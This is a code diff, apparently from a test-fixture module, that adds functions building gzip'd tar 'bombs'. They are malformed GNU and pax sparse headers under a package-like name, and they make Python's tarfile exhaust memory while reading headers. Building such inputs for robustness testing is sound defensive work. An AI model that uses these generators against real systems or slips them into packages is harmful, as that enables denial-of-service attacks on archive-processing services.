@@ -256,3 +256,43 @@ def xz_demanding_dictionary(data: bytes, props: int = 40) -> bytes:
     xz[at + 2] = props
     xz[start + size - 4:start + size] = struct.pack("<I", zlib.crc32(bytes(xz[start:start + size - 4])))
     return bytes(xz)
+
+
+def _with_checksum(block: bytearray) -> bytes:
+    block[148:156] = b" " * 8
+    block[148:156] = b"%06o\0 " % sum(block)
+    return bytes(block)
+
+
+def gnu_sparse_bomb(mib: int = 300) -> bytes:
+    """A gzip'd tar whose first header is an old-GNU sparse member with an endless chain of extension blocks, each
+    holding 21 (offset, size) pairs that tarfile collects into a list while reading headers."""
+    info = tarfile.TarInfo("megatron_core-0.20.0/sparse")
+    info.type = tarfile.GNUTYPE_SPARSE
+    head = bytearray(info.tobuf(format=tarfile.GNU_FORMAT))
+    head[482] = 1  # isextended
+    one = b"%011o\0" % 1
+    ext = bytearray((one + one) * 21 + bytes(8))
+    ext[504] = 1  # another extension block follows, forever
+    chunk = bytes(ext) * (MIB // 512)
+    return gzip_of_deflate(_pieces(_with_checksum(head), chunk, mib))
+
+
+def pax_sparse_map_bomb(mib: int = 300) -> bytes:
+    """A gzip'd tar with a pax GNU.sparse 1.0 member whose map claims 10^9 numbers: tarfile reads them into a list
+    before the member, whatever the member's declared size."""
+    info = tarfile.TarInfo("megatron_core-0.20.0/sparse")
+    info.size = 512
+    info.pax_headers = {"GNU.sparse.major": "1", "GNU.sparse.minor": "0", "GNU.sparse.name": "sparse",
+                        "GNU.sparse.realsize": "1"}
+    head = info.tobuf(format=tarfile.PAX_FORMAT) + b"1000000000\n"
+    return gzip_of_deflate(_pieces(head, b"1\n" * (MIB // 2), mib))
+
+
+def _pieces(head: bytes, chunk: bytes, count: int) -> bytes:
+    """A raw deflate stream of ``head`` + ``chunk`` * ``count``, compressing ``chunk`` once."""
+    def piece(data: bytes) -> bytes:
+        c = zlib.compressobj(9, zlib.DEFLATED, -15)
+        return c.compress(data) + c.flush(zlib.Z_FULL_FLUSH)
+
+    return piece(head) + piece(chunk) * count + zlib.compressobj(9, zlib.DEFLATED, -15).flush()
